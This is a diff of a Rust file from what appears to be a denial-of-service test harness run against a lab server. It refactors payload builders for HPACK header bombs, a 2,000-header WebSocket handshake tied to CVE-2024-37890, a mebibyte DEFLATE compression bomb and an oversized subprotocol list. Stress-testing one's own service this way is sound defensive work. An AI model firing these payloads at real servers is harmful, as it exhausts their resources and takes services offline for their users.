@@ -3,10 +3,11 @@
 use std::time::Duration;
 
 use crate::{
-    attack::{Attack, Conduct, Reads, made, same},
+    attack::{Attack, Conduct, Reads, same},
     documents::unique,
     frames::{
-        END_HEADERS, END_STREAM, WIDE, field, frame, get, get_block, greeting, indexed, kind, opening, reset, socket, window,
+        END_HEADERS, END_STREAM, HANDSHAKE, WIDE, field, frame, get, get_block, greeting, indexed, kind, opening, reset,
+        socket, window,
     },
     http2::{next_streams, pour},
     lab,
@@ -68,7 +69,7 @@ fn http2() -> Vec<Attack> {
     let (first, second) = (cheap.clone(), cheap.clone());
     let empty_name = [get_block("/health/live"), indexed("", "").repeat(4000)].concat();
     let large = path("{procedures(first:100){nodes{name summary slug}}}");
-    let tables = [get_block("/health/live"), vec![0x3f, 0xe1, 0x1f].repeat(100), indexed("x", &"x".repeat(4000))].concat();
+    let tables = [get_block("/health/live"), [0x3f, 0xe1, 0x1f].repeat(100), indexed("x", &"x".repeat(4000))].concat();
     vec![
         // Headers of refused requests are decoded all the same.
         pour(
@@ -126,17 +127,14 @@ fn http2() -> Vec<Attack> {
 }
 
 fn sockets() -> Vec<Attack> {
-    let many_headers = made(|_| {
-        let headers = many(2000, |at| format!("h{at}: x\r\n")).replace("\r\n ", "\r\n");
-        crate::frames::HANDSHAKE.replace("\r\n\r\n", &format!("\r\n{headers}\r\n")).into_bytes()
-    });
-    let deflate = crate::frames::HANDSHAKE.replace("\r\n\r\n", "\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n");
+    let headers = "h: x\r\n".repeat(2000);
+    let many_headers = HANDSHAKE.replace("\r\n\r\n", &format!("\r\n{headers}\r\n"));
+    let deflate = HANDSHAKE.replace("\r\n\r\n", "\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n");
     // A raw DEFLATE stream of a mebibyte of spaces, flagged as compressed (RFC 7692).
     let packed = socket(0xc1, &[0xed, 0xc1, 0x01, 0x01, 0, 0, 0, 0x80, 0x90, 0xfe, 0xaf, 0xee, 0x08, 0x0a].repeat(1000));
-    let names =
-        crate::frames::HANDSHAKE.replace("graphql-transport-ws", &format!("{}graphql-transport-ws", "a,".repeat(20_000)));
+    let names = HANDSHAKE.replace("graphql-transport-ws", &format!("{}graphql-transport-ws", "a,".repeat(20_000)));
     vec![
-        Attack::new("CVE-2024-37890 (websockets/ws): a handshake with 2,000 headers", Conduct::hold(50, many_headers)),
+        Attack::new("CVE-2024-37890 (websockets/ws): a handshake with 2,000 headers", Conduct::hold(50, same(many_headers))),
         Attack::new(
             "tornadoweb/tornado#2391: frames compressed without leave",
             Conduct::hold(50, same([deflate.into_bytes(), packed].concat())),
